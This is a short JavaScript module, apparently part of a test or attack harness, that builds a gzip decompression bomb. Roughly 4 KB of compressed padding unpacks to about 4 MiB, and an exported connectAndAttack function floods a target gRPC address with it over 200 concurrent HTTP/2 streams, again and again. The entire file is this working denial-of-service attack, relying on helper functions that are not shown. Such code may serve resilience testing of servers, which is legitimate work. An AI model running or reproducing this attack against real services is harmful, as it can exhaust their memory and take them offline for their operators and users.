import { gzipSync } from "node:zlib";
import { APPEND, keepCalling, message, padding } from "../support/http2.mjs";

const body = message(gzipSync(padding(4_194_000)), 1);

/** 4 KB that unpack to 4 MiB, two hundred times at once, again and again. */
export function connectAndAttack(address) {
  return keepCalling(address, {
    streams: 200,
    path: APPEND,
    headers: { "grpc-encoding": "gzip" },
    send(stream) {
      stream.resume();
      stream.end(body);
    },
  });
}
